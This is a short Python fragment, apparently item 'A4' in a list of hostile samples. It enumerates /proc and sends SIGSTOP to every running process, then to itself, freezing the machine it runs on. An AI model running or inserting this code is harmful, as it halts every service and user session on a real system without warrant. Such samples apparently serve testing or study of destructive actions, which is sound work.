# A4: stops every process in sight, itself last.
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGSTOP)
